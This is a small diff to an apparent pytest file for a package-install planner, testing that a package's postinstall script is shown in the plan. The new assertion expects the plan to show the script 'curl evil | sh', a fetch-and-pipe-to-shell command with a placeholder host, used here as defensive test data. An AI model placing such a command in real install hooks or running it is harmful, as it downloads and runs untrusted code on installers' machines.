@@ -81,7 +81,7 @@ async def test_install_scripts_are_shown(registry: LoopbackRegistry, planner: Ma
     # The registry may keep quiet about them: the file itself counts.
     del registry.packuments["app"]["versions"]["1.0.0"]["scripts"]
     plan = await planned(planner(registry), "app")
-    assert plan.packages[0].scripts == ("postinstall",) and "Has install scripts (postinstall)" in plan.text
+    assert plan.packages[0].scripts == ("postinstall",) and "installed: postinstall: curl evil | sh" in plan.text
 
 
 @pytest.mark.parametrize("wanted", ["git+ssh://x/y", "https://x/y.tgz", "file:../x", "npm:other@1", "next"])
